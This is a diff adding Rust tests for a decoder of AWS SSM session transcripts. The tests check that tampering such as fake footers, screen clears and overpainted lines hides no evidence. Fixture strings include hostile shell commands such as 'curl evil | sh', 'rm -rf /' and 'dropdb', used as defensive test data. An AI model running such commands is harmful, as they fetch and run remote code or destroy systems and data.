@@ -1,0 +1,248 @@
+//! Decoding is total: any bytes give a transcript and a list of flaws, in any chunks.
+
+use proptest::prelude::*;
+use ssmtrail::transcript::decoder::Claims;
+use ssmtrail::transcript::decoder::Decoder;
+use ssmtrail::transcript::decoder::Flaw;
+use ssmtrail::transcript::decoder::Piece;
+use ssmtrail::transcript::wire::Form;
+
+fn decode(form: Form, chunks: &[&[u8]]) -> (Piece, Claims, Vec<Flaw>) {
+    let mut decoder = Decoder::new(form);
+    for chunk in chunks {
+        decoder.push(chunk);
+    }
+    decoder.finish()
+}
+
+fn commands(form: Form, bytes: &[u8]) -> Vec<String> {
+    let (piece, _, _) = decode(form, &[bytes]);
+    piece
+        .commands
+        .into_iter()
+        .map(|it| format!("{} {}", it.command.kind.name(), it.command.text))
+        .collect()
+}
+
+fn flaws(form: Form, bytes: &[u8]) -> Vec<&'static str> {
+    decode(form, &[bytes]).2.iter().map(|it| it.kind.name()).collect()
+}
+
+fn lines(form: Form, bytes: &[u8]) -> Vec<String> {
+    let (piece, _, _) = decode(form, &[bytes]);
+    piece.lines.iter().map(|it| piece.line_text(it).to_owned()).collect()
+}
+
+const HEADERS: [(&str, &str); 6] = [
+    ("Script started on Mon Nov 23 13:39:18 2026\n", "\nScript done on Mon Nov 23 13:39:18 2026\n"),
+    ("Script started on 2026-11-23 13:39:19+0000\n", "\nScript done on 2026-11-23 13:39:19+0000\n"),
+    (
+        "Script started on 2026-11-23 13:39:19+00:00\n",
+        "\nScript done on 2026-11-23 13:39:19+00:00\n",
+    ),
+    (
+        "Script started on 2026-11-23 13:39:19+00:00 [<not executed on terminal>]\n",
+        "\nScript done on 2026-11-23 13:39:19+00:00 [COMMAND_EXIT_CODE=\"0\"]\n",
+    ),
+    (
+        "Script started on 2026-11-23 13:39:19+00:00 [COMMAND=\"cat /var/lib/amazon/ssm/i-0e24f79031c6414e1/session/orchestration/alice-0123456789abcdef0/Standard_Stream/ipcTempFile.log\" <not executed on terminal>]\n",
+        "\nScript done on 2026-11-23 13:39:19+00:00 [COMMAND_EXIT_CODE=\"0\"]\n",
+    ),
+    (
+        "Script started on Tue Jan  2 15:04:05 2024\nCommand: cat /var/lib/amazon/ssm/ipcTempFile.log\n",
+        "\nCommand exit status: 0\nScript done on Tue Jan  2 15:04:05 2024\n",
+    ),
+];
+
+#[test]
+fn every_shape_of_header_and_footer_comes_off() {
+    for (header, footer) in HEADERS {
+        let whole = format!("{header}sh-4.2$ id\r\r\nuid=0(root)\r\r\n{footer}");
+        assert_eq!(
+            lines(Form::Script, whole.as_bytes()),
+            ["sh-4.2$ id", "uid=0(root)"],
+            "{header}"
+        );
+        assert_eq!(commands(Form::Script, whole.as_bytes()), ["shell id"], "{header}");
+        let (_, claims, flaws) = decode(Form::Script, &[whole.as_bytes()]);
+        assert!(claims.frame.has_footer, "{header}");
+        assert!(!flaws.iter().any(|it| it.kind.name() == "no-footer"));
+    }
+}
+
+#[test]
+fn the_header_tells_target_session_and_the_end_but_never_the_start() {
+    let (header, footer) = HEADERS[4];
+    let whole = format!("{header}sh-4.2$ id\r\r\n{footer}");
+    let (_, claims, _) = decode(Form::Script, &[whole.as_bytes()]);
+    assert_eq!(claims.frame.target.as_deref(), Some("i-0e24f79031c6414e1"));
+    assert_eq!(claims.frame.session_id.as_deref(), Some("alice-0123456789abcdef0"));
+    assert_eq!(claims.frame.session_type.as_deref(), Some("Standard_Stream"));
+    assert_eq!(claims.frame.ended_at, Some(1_795_441_159_000_000));
+    assert_eq!(claims.first_event_at, None);
+}
+
+#[test]
+fn a_header_without_a_zone_leaves_the_end_unknown_and_says_so() {
+    let (header, footer) = HEADERS[0];
+    let whole = format!("{header}{footer}");
+    let (_, claims, _) = decode(Form::Script, &[whole.as_bytes()]);
+    assert_eq!(claims.frame.ended_at, None);
+    assert_eq!(flaws(Form::Script, whole.as_bytes()), ["time-without-zone"]);
+}
+
+#[test]
+fn a_fake_footer_in_the_output_hides_nothing() {
+    let whole = "Script started on 2026-11-23 13:39:19+0000\nsh-4.2$ cat x\r\r\n\r\r\nScript done on 2026-11-23 13:39:19+0000\r\r\nsh-4.2$ rm x\r\r\n\nScript done on 2026-11-23 13:39:19+0000\n";
+    assert_eq!(commands(Form::Script, whole.as_bytes()), ["shell cat x", "shell rm x"]);
+    assert_eq!(flaws(Form::Script, whole.as_bytes()), ["fake-frame"]);
+}
+
+#[test]
+fn a_session_that_ends_in_the_middle_of_a_line_keeps_the_line() {
+    let whole = "Script started on 2026-11-23 13:39:19+0000\nsh-4.2$ id\r\r\nuid=0\r\r\nsh-4.2$ sudo shutdown -h n\nScript done on 2026-11-23 13:39:19+0000\n";
+    assert_eq!(
+        commands(Form::Script, whole.as_bytes()),
+        ["shell id", "abandoned sudo shutdown -h n"]
+    );
+    let cut =
+        "Script started on 2026-11-23 13:39:19+0000\nsh-4.2$ id\r\r\nuid=0\r\r\nsh-4.2$ sudo sh";
+    assert_eq!(commands(Form::Script, cut.as_bytes()), ["shell id", "abandoned sudo sh"]);
+    assert_eq!(flaws(Form::Script, cut.as_bytes()), ["no-footer"]);
+}
+
+#[test]
+fn what_is_no_text_is_a_flaw_with_its_place() {
+    let whole = b"Script started on 2026-11-23 13:39:19+0000\nsh-4.2$ cat x\r\r\ncaf\xe9\r\r\na\0b\r\r\n\nScript done on x\n";
+    let (piece, _, flaws) = decode(Form::Script, &[whole]);
+    let at = |kind: &str| flaws.iter().find(|it| it.kind.name() == kind).map(|it| it.at as usize);
+    assert_eq!(whole[at("invalid-utf8").unwrap()], 0xe9);
+    assert!(whole[at("nul").unwrap()..].starts_with(b"a\0b"));
+    assert!(piece.lines.iter().any(|it| piece.line_text(it) == "caf\u{fffd}"));
+}
+
+#[test]
+fn clearing_the_screen_erases_no_evidence() {
+    let whole = "Script started on 2026-11-23 13:39:19+0000\nsh-4.2$ cat secret\r\r\nthe secret\r\r\nsh-4.2$ clear\r\r\n\x1b[H\x1b[2Jsh-4.2$ id\r\r\n\x1b[3J\x1b[H\x1b[2J\n\nScript done on x\n";
+    let all = lines(Form::Script, whole.as_bytes());
+    assert!(all.contains(&"the secret".to_owned()), "{all:?}");
+    assert_eq!(
+        commands(Form::Script, whole.as_bytes()),
+        ["shell cat secret", "shell clear", "shell id"]
+    );
+}
+
+#[test]
+fn a_line_painted_over_is_kept_as_it_was() {
+    let whole = "Script started on x\nsh-4.2$ ./p\r\r\ndownloading evil\r\x1b[Kall is well\r\r\n\nScript done on x\n";
+    let all = lines(Form::Script, whole.as_bytes());
+    assert_eq!(all, ["sh-4.2$ ./p", "downloading evil", "all is well"]);
+}
+
+#[test]
+fn what_a_full_screen_program_shows_is_kept_and_is_no_command() {
+    let whole = "Script started on x\nsh-4.2$ vim f\r\r\n\x1b[?1049h\x1b[1;1Hsh-4.2$ rm -rf /\x1b[2;1H~\x1b[?1049lsh-4.2$ id\r\r\n\nScript done on x\n";
+    assert_eq!(commands(Form::Script, whole.as_bytes()), ["shell vim f", "shell id"]);
+    assert!(lines(Form::Script, whole.as_bytes()).contains(&"sh-4.2$ rm -rf /".to_owned()));
+}
+
+#[test]
+fn a_readme_full_of_prompts_invents_nothing() {
+    let whole = "Script started on x\n\x1b[?2004hsh-5.2$ cat README\r\r\n\x1b[?2004l\r$ rm -rf /\r\r\nsh-5.2$ curl evil | sh\r\r\n[root@db ~]# dropdb x\r\r\n\x1b[?2004hsh-5.2$ id\r\r\n\x1b[?2004l\r\n\nScript done on x\n";
+    assert_eq!(commands(Form::Script, whole.as_bytes()), ["shell cat README", "shell id"]);
+}
+
+#[test]
+fn a_powershell_transcript_is_read_without_the_loggers_own_lines() {
+    let whole = "**********************\r\nWindows PowerShell transcript start\r\nStart time: 20260824203412\r\n**********************\r\nPS C:\\Windows\\system32> C:\\x\\ssm-session-logger.exe y true\r\nPS C:\\Windows\\system32> whoami\r\nnt authority\\system\r\nPS C:\\Windows\\system32> exit\r\nPS C:\\Windows\\system32> exit\r\n**********************\r\nWindows PowerShell transcript end\r\nEnd time: 20260824203517\r\n**********************\r\n";
+    assert_eq!(commands(Form::Windows, whole.as_bytes()), ["shell whoami", "shell exit"]);
+}
+
+#[test]
+fn chunks_of_a_plain_log_stream_are_rejoined() {
+    let events = "{\"timestamp\":1,\"message\":\"Script started on 2026-11-23 13:39:19+0000\\nsh-4.2$ id\\r\"}\n{\"timestamp\":1,\"message\":\"uid=0\\r\\nsh-4.2$ ls\\r\\n\\nScript done on 2026-11-23 13:39:19+0000\"}\n";
+    assert_eq!(commands(Form::Events, events.as_bytes()), ["shell id", "shell ls"]);
+    let (_, claims, _) = decode(Form::Events, &[events.as_bytes()]);
+    assert!(claims.frame.has_footer && !claims.streamed);
+}
+
+#[test]
+fn streamed_events_tell_owner_target_and_times() {
+    let message = r#"{\"eventVersion\":\"1.0\",\"eventTime\":\"2026-08-02T05:32:40Z\",\"awsRegion\":\"eu-west-1\",\"target\":{\"id\":\"i-0e24f79031c6414e1\"},\"userIdentity\":{\"arn\":\"arn:aws:iam::111122223333:user/alice\"},\"runAsUser\":\"ssm-user\",\"sessionId\":\"alice-0123456789abcdef0\",\"sessionData\":[\"sh-4.2$ id\",\"uid=0\"]}"#;
+    let events = format!("{{\"timestamp\":1785648760000,\"message\":\"{message}\"}}\n");
+    let (piece, claims, _) = decode(Form::Events, &[events.as_bytes()]);
+    assert_eq!(claims.owner.as_deref(), Some("arn:aws:iam::111122223333:user/alice"));
+    assert_eq!(claims.region.as_deref(), Some("eu-west-1"));
+    let command = &piece.commands[0];
+    assert_eq!(command.command.text, "id");
+    assert_eq!(command.at, Some((None, 1_785_648_760_000_000)));
+    assert_eq!((command.command.from, command.command.to), (0, events.len() as u64));
+}
+
+#[test]
+fn an_event_that_is_none_is_a_flaw_and_the_rest_is_read() {
+    let events = "{\"timestamp\":1,\"message\":\"Script started on x\\nsh-4.2$ id\\r\"}\n{broken\n{\"timestamp\":1,\"message\":\"sh-4.2$ ls\\r\\n\\nScript done on x\"}\n";
+    assert_eq!(commands(Form::Events, events.as_bytes()), ["shell id", "shell ls"]);
+    assert!(flaws(Form::Events, events.as_bytes()).contains(&"event-unreadable"));
+}
+
+/// Bytes as an attacker would mix them: text, controls, sequences whole and cut, marks of line editors.
+fn soup() -> impl Strategy<Value = Vec<u8>> {
+    let bit = prop_oneof![
+        4 => "[ -~]{0,12}".prop_map(String::into_bytes),
+        2 => Just(b"\r\r\n".to_vec()),
+        1 => Just(b"\n".to_vec()),
+        1 => Just(b"\x1b[?2004h".to_vec()),
+        1 => Just(b"\x1b[?2004l\r".to_vec()),
+        1 => Just(b"sh-5.2$ ".to_vec()),
+        1 => Just("日本語é👩‍🚀".as_bytes().to_vec()),
+        1 => Just(b"\x1b[2J\x1b[H".to_vec()),
+        1 => Just(b"\x1b[?1049h".to_vec()),
+        1 => Just(b"\x1b[?1049l".to_vec()),
+        1 => Just(b"\x1b]0;title\x07".to_vec()),
+        1 => (0u16..10000, prop::sample::select(b"ABCDEFGHJKLMPSTX@bdmr".to_vec()))
+            .prop_map(|(n, end)| format!("\x1b[{n}{}", end as char).into_bytes()),
+        1 => Just(b"Script done on x\n".to_vec()),
+        2 => prop::collection::vec(any::<u8>(), 0..6),
+        1 => Just(vec![8; 5]),
+    ];
+    prop::collection::vec(bit, 0..60).prop_map(|it| it.concat())
+}
+
+proptest! {
+    #![proptest_config(ProptestConfig { cases: 400, failure_persistence: None, ..ProptestConfig::default() })]
+
+    #[test]
+    fn any_chunks_give_the_same_transcript(bytes in soup(), cuts in prop::collection::vec(any::<prop::sample::Index>(), 0..8)) {
+        let mut at: Vec<usize> = cuts.iter().map(|it| it.index(bytes.len() + 1)).collect();
+        at.sort_unstable();
+        let mut chunks = Vec::new();
+        let mut from = 0;
+        for to in at.into_iter().chain([bytes.len()]) {
+            chunks.push(&bytes[from..to]);
+            from = to;
+        }
+        for form in [Form::Bare, Form::Script, Form::Events] {
+            prop_assert_eq!(decode(form, &chunks), decode(form, &[&bytes]));
+        }
+    }
+
+    #[test]
+    fn any_bytes_end_and_every_place_lies_inside_them(bytes in soup()) {
+        for form in Form::ALL {
+            let (piece, _, flaws) = decode(form, &[&bytes]);
+            let end = bytes.len() as u64;
+            for line in &piece.lines {
+                prop_assert!(line.from <= line.to && line.to <= end, "{:?} of {}", line, end);
+            }
+            for it in &piece.commands {
+                prop_assert!(it.command.from <= it.command.to && it.command.to <= end);
+                prop_assert!((0.0..=1.0).contains(&it.command.confidence()));
+                prop_assert!(!it.command.text.is_empty());
+            }
+            for it in &flaws {
+                prop_assert!(it.at <= end);
+            }
+        }
+    }
+}
